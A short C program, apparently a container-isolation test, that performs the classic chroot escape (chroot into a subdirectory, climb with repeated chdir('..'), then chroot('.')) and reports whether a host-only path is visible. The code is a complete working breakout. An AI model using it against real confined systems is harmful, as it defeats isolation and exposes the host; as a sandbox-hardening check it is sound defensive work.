/* The classic chroot escape: chroot into a subdirectory while keeping the
 * working directory outside it, climb with "..", then chroot(".").
 * Works against a plain chroot; must fail against pivot_root with the old
 * root detached. Prints "escaped" if it can see argv[1] (a path that exists
 * only on the host), else "contained". */
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char **argv) {
    struct stat st;
    mkdir("/breakout", 0755);
    if (chroot("/breakout") != 0) { perror("chroot"); return 2; }
    for (int i = 0; i < 256; i++) chdir("..");
    chroot(".");
    if (argc > 1 && stat(argv[1], &st) == 0) { puts("escaped"); return 1; }
    puts("contained");
    return 0;
}
